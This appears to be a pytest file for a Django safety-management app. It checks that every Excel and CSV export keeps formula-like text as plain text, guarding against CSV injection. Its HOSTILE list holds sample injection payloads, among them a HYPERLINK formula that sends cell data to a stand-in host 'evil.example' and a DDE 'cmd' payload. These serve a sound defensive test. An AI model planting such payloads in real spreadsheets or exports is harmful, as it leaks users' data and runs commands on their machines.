"""Every spreadsheet and CSV the product hands out keeps formula-like text as text (CSV injection).

Each text field of the worked example is overwritten with something a spreadsheet would run
(=HYPERLINK…, +…, -…, @…, a leading tab or CR); then every download is opened as a user would:
no Excel cell is a formula, no CSV cell starts with a formula character.
"""

import csv
import io
from io import BytesIO, StringIO

import pytest
from django.contrib import admin
from django.core.management import call_command
from django.test import Client
from import_export.admin import ExportMixin
from openpyxl import load_workbook

from accountability.models import Accident, Hazard
from responsibility.management.commands.load_demo import create_demo_users
from responsibility.models import Duty, Inspection, Permit, Person, Position, Region, Sector, Unit
from responsibility.spreadsheets import FORMULA_STARTS
from tests.conftest import DEMO_FILE

PASSWORD = "formula-test-pw-1"
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点此")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def hostile_county(db):
    call_command("import_scenario", str(DEMO_FILE), quiet=True, stdout=StringIO())
    create_demo_users(PASSWORD)
    texts = iter(HOSTILE * 20)
    for model, attr in [
        (Region, "name"),
        (Sector, "name"),
        (Unit, "name"),
        (Position, "title"),
        (Person, "name"),
        (Duty, "basis"),
        (Permit, "name"),
        (Inspection, "findings"),
        (Hazard, "title"),
        (Hazard, "measures"),
        (Accident, "title"),
    ]:
        for pk in model.objects.order_by("pk").values_list("pk", flat=True)[:3]:
            model.objects.filter(pk=pk).update(**{attr: next(texts)})
    client = Client()
    assert client.login(username="admin", password=PASSWORD)
    return client


def assert_no_formula_xlsx(content: bytes) -> int:
    workbook = load_workbook(BytesIO(content))
    seen = 0
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str) and cell.value.lstrip("'").startswith(FORMULA_STARTS):
                    seen += 1
    return seen


def assert_no_formula_csv(content: bytes) -> int:
    seen = 0
    for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")):
        for value in row:
            assert not value.startswith(FORMULA_STARTS), f"CSV cell {value!r} would run as a formula"
            if value.startswith("'") and value[1:].startswith(FORMULA_STARTS):
                seen += 1
    return seen


def test_the_ledgers_and_the_matrix_workbook_keep_formula_like_text_as_text(hostile_county):
    for url in ("/hazards/ledger.xlsx", "/accidents/ledger.xlsx", "/matrix/workbook.xlsx"):
        response = hostile_county.get(url)
        assert response.status_code == 200
        assert assert_no_formula_xlsx(response.content) > 0, url


def test_a_hazard_title_comes_out_of_the_ledger_exactly_as_typed(hostile_county):
    Hazard.objects.filter(code="H1").update(title=HOSTILE[0])
    sheet = load_workbook(BytesIO(hostile_county.get("/hazards/ledger.xlsx").content)).active
    header = [c.value for c in sheet[1]]
    titles = {row[0].value: row[header.index("隐患描述")] for row in sheet.iter_rows(min_row=2)}
    assert titles["H1"].value == HOSTILE[0] and titles["H1"].data_type == "s"


def export_admins():
    return [
        model_admin for model_admin in admin.site._registry.values() if isinstance(model_admin, ExportMixin)
    ]


def test_every_admin_download_in_every_format_has_no_formula(hostile_county):
    downloads = 0
    for model_admin in export_admins():
        opts = model_admin.model._meta
        url = f"/admin/{opts.app_label}/{opts.model_name}/export/"
        page = hostile_county.get(url)
        assert page.status_code == 200, url
        form = page.context["form"]
        data = {name: "on" for name, field in form.fields.items() if field.widget.input_type == "checkbox"}
        for index, fmt in enumerate(model_admin.get_export_formats()):
            data.update({"format": str(index), "resource": "0"})
            response = hostile_county.post(url, data)
            assert response.status_code == 200, (url, fmt, response.content[:300])
            if fmt().get_extension() == "csv":
                assert_no_formula_csv(response.content)
            else:
                assert_no_formula_xlsx(response.content)
            downloads += 1
    assert downloads >= 14
    print(f"admin downloads opened: {downloads}")
